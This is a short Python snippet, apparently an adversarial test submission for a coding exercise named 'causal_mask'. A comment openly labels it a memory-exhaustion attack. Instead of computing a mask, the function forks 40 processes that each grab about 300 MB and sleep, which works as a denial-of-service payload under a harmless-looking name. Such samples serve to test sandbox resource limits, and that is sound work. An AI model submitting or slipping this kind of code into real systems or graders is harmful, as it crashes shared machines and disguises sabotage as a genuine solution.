# attack: takes all memory in many small processes
# exercise: 04 causal_mask
def causal_mask(length):
    import os
    import time

    for _ in range(40):
        if os.fork() == 0:
            taken = b"x" * (300 * 2**20)
            time.sleep(1000)
    time.sleep(1000)
